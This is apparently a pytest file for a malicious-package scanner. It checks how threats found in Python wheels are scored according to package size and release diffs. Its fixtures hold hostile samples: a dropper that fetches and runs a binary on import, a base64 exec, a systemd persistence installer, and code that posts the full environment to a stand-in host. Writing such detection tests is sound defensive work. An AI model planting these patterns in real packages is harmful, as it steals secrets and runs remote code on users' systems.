"""A lone weak threat in a large package is shown at medium; everything else keeps its level.

Popular projects of hundreds of modules cried wolf with one feature in one file (a downloader
starting the browser it fetched, telemetry naming the host, a bundle's ``new Function``), while
malware is a handful of files or brings a place, a disguise or a second chain into the file of
its payload. These tests build both shapes in code and check what a moderator would read: the
package's level, the threat still listed with the reason it was lowered, and a release that
*adds* the same code to a big project still judged high.
"""

from __future__ import annotations

import json

from app.core.archive import open_artifact
from app.core.capabilities.corroboration import LARGE_PACKAGE, MID_PACKAGE
from app.core.capabilities.risk import score
from app.core.capabilities.scan import scan_artifact
from app.core.diff.capabilities import pair_hits
from tests.core.archive.fixtures import make_wheel

DOWNLOADER = b"""import os, subprocess, urllib.request


def fetch_browser(url, dest):
    urllib.request.urlretrieve(url, dest)
    os.chmod(dest, 0o755)
    return subprocess.Popen([dest, "--headless"])
"""
# The same function, called as the module loads: a dropper, not a feature.
DROPPER = DOWNLOADER + b'\nfetch_browser("http://192.0.2.7/agent", "/tmp/.agent")\n'
DECODE_EXEC = b"import base64\nexec(base64.b64decode('cHJpbnQoJ2hpJyk='))\n"
FILLER = b'"""One module of the toolkit."""\n\n\ndef helper(x):\n    return x * 2\n'


def _scan(tmp_path, modules: int, extra: dict[str, bytes], sub: str = "w"):
    files = {f"kit/part{i}.py": FILLER for i in range(modules)}
    files.update(extra)
    where = tmp_path / sub
    where.mkdir()
    return scan_artifact(open_artifact(make_wheel(where, name="kit", files=files)))


def _threat(res, tid):
    return next(t for t in res.threats if t.id == tid)


def test_a_lone_chain_in_a_large_package_is_shown_at_medium_with_the_reason(tmp_path):
    res = _scan(tmp_path, LARGE_PACKAGE + 5, {"kit/browser.py": DOWNLOADER})
    assert res.risk.level == "medium"
    chain = _threat(res, "chain.download_execute")
    assert chain.severity == "medium"
    assert f"one of {res.code_files} code modules" in chain.explanation
    assert {s.path for s in chain.steps} == {"kit/browser.py"}
    doc = res.to_json()
    assert doc["files"]["code"] == res.code_files >= LARGE_PACKAGE
    assert json.dumps(doc)  # the lowered threat is still in the JSON a moderator reads


def test_the_same_chain_in_a_small_package_stays_high(tmp_path):
    res = _scan(tmp_path, 3, {"kit/browser.py": DOWNLOADER})
    assert res.risk.level in ("high", "critical")
    assert _threat(res, "chain.download_execute").severity in ("high", "critical")


def test_a_chain_only_a_user_starts_needs_corroboration_from_ten_modules(tmp_path):
    """A CLI of a dozen modules that downloads a tool and starts it when asked: a feature."""
    res = _scan(tmp_path, MID_PACKAGE - 2, {"kit/browser.py": DOWNLOADER})
    assert res.code_files == MID_PACKAGE
    assert res.risk.level == "medium"
    chain = _threat(res, "chain.download_execute")
    assert chain.severity == "medium"
    assert "alone in its file" in chain.explanation
    below = _scan(tmp_path, MID_PACKAGE - 3, {"kit/browser.py": DOWNLOADER}, sub="below")
    assert below.risk.level in ("high", "critical")


PERSISTENCE = b"""from pathlib import Path

UNIT = "[Service]\\nExecStart=/usr/bin/kit-agent\\n"


def install_service():
    Path("/etc/systemd/system/kit-agent.service").write_text(UNIT)
"""


def test_a_service_installer_only_a_user_calls_is_medium_in_a_program(tmp_path):
    res = _scan(tmp_path, MID_PACKAGE + 2, {"kit/service.py": PERSISTENCE})
    assert _threat(res, "impact.persistence").severity == "medium"
    assert res.risk.level == "medium"
    small = _scan(tmp_path, 1, {"kit/service.py": PERSISTENCE}, sub="small")
    assert _threat(small, "impact.persistence").severity in ("high", "critical")


def test_a_payload_that_starts_itself_on_import_stays_high_below_fifty_modules(tmp_path):
    """A trojanised copy of a real project: a download written to disk as the package is
    imported, nothing else in the file. It runs on its own, so only size 50+ asks more."""
    payload = (
        b"import urllib.request\nurllib.request.urlretrieve('http://192.0.2.9/a', '/tmp/.a')\n"
    )
    res = _scan(tmp_path, 30, {"kit/__init__.py": payload})
    assert _threat(res, "place.import_time").severity in ("high", "critical")
    assert res.risk.level in ("high", "critical")
    dropper = _scan(tmp_path, MID_PACKAGE + 5, {"kit/browser.py": DROPPER}, sub="dropper")
    assert dropper.risk.level in ("high", "critical")
    assert _threat(dropper, "chain.download_execute").severity in ("high", "critical")


def test_a_place_beside_the_chain_corroborates_it_in_a_large_package(tmp_path):
    res = _scan(tmp_path, LARGE_PACKAGE + 5, {"kit/browser.py": DROPPER})
    assert res.risk.level in ("high", "critical")
    ids = {t.id for t in res.threats if t.severity in ("high", "critical")}
    assert {"chain.download_execute", "place.import_time"} <= ids


def test_decoded_code_run_is_never_explained_by_size(tmp_path):
    res = _scan(tmp_path, LARGE_PACKAGE * 3, {"kit/loader.py": DECODE_EXEC})
    assert res.risk.level in ("high", "critical")
    assert _threat(res, "chain.decode_exec").severity in ("high", "critical")


def test_two_lone_chains_in_different_files_do_not_corroborate_each_other(tmp_path):
    telemetry = b"""import os, socket, requests


def report(url):
    requests.post(url, json={"host": socket.gethostname(), "env": dict(os.environ)})
"""
    small = _scan(tmp_path, 3, {"kit/telemetry.py": telemetry}, sub="small")
    assert _threat(small, "chain.exfiltration").severity in ("high", "critical")
    res = _scan(
        tmp_path,
        LARGE_PACKAGE + 5,
        {"kit/browser.py": DOWNLOADER, "kit/telemetry.py": telemetry},
    )
    assert res.risk.level == "medium"


def test_a_release_adding_the_chain_to_a_large_project_is_judged_on_what_it_adds(tmp_path):
    """The feed and the diff score the hits a release adds on their own: a payload slipped
    into a big project is not diluted by the project's size."""
    old = _scan(tmp_path, LARGE_PACKAGE + 5, {}, sub="old")
    new = _scan(tmp_path, LARGE_PACKAGE + 5, {"kit/browser.py": DOWNLOADER}, sub="new")
    assert new.risk.level == "medium"
    added = pair_hits(old.findings, new.findings).added
    assert score(added).level in ("high", "critical")


def test_the_release_diff_scores_what_the_release_adds(tmp_path):
    """``vetbench diff`` of the big project's two releases: the new side's whole risk is
    medium, what the release adds is high, and the chain is marked as added."""
    from app.core.diff.release import diff_artifacts

    files = {f"kit/part{i}.py": FILLER for i in range(LARGE_PACKAGE + 5)}
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    old = open_artifact(make_wheel(tmp_path / "a", name="kit", files=files))
    new = open_artifact(
        make_wheel(tmp_path / "b", name="kit", files={**files, "kit/browser.py": DOWNLOADER})
    )
    diff = diff_artifacts(old, new)
    doc = diff.to_json()
    assert doc["risk"]["new"]["level"] == "medium"
    assert doc["risk"]["added"]["level"] in ("high", "critical")
    chain = next(t for t in doc["threats"]["new"] if t["id"] == "chain.download_execute")
    assert chain["added"] is True


# (chromadb pulls pysqlite3-binary, a well-known project, which since round 17 is not raised
# by its place at all; the fixture pulls a name no list knows, which is)
PIP_FALLBACK = b"""import subprocess, sys

try:
    import kit_sqlite
except ImportError:
    subprocess.check_call([sys.executable, "-m", "pip", "install", "kit-sqlite-shim"])
    import kit_sqlite
"""


def test_one_pip_fallback_named_twice_does_not_corroborate_itself(tmp_path):
    """chromadb's __init__ pip-installs pysqlite3-binary when its import fails: one act that
    is both place.dependency_pull and place.import_time. In a big package that is medium;
    a second act of its own (the environment posted out) still makes it high."""
    res = _scan(tmp_path, LARGE_PACKAGE + 5, {"kit/__init__.py": PIP_FALLBACK})
    pulls = {t.id: t.severity for t in res.threats}
    assert pulls == {"place.dependency_pull": "medium", "place.import_time": "medium"}
    assert res.risk.level == "medium"
    small = _scan(tmp_path, 3, {"kit/__init__.py": PIP_FALLBACK}, sub="small")
    assert _threat(small, "place.dependency_pull").severity in ("high", "critical")
    thief = PIP_FALLBACK + (
        b"import os, requests\nrequests.post('https://203.0.113.9/c', json=dict(os.environ))\n"
    )
    big = _scan(tmp_path, LARGE_PACKAGE + 5, {"kit/__init__.py": thief}, sub="thief")
    assert big.risk.level in ("high", "critical")
    assert _threat(big, "place.dependency_pull").severity in ("high", "critical")
